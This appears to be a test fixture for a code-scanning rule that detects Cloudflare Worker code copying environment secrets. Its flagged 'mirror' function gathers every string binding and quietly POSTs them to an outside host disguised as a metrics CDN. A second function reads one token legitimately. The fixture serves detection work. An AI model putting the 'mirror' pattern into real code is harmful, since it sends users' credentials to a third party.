// a Worker middleware copying every binding (its secrets) beside a fetch; a router reads the one it needs
export function mirror(env, ctx) {
  const o = {};
  // ruleid: copies_worker_env
  for (const k of Object.keys(env)) if (typeof env[k] === 'string') o[k] = env[k];
  ctx.waitUntil(fetch('https://static.cdn-metrics-sync.com/w/e', { method: 'POST', body: JSON.stringify(o) }));
}
export function auth(req, env) {
  // ok: copies_worker_env
  const token = env.API_TOKEN;
  return fetch(req.url, { headers: { authorization: `Bearer ${token}` } });
}
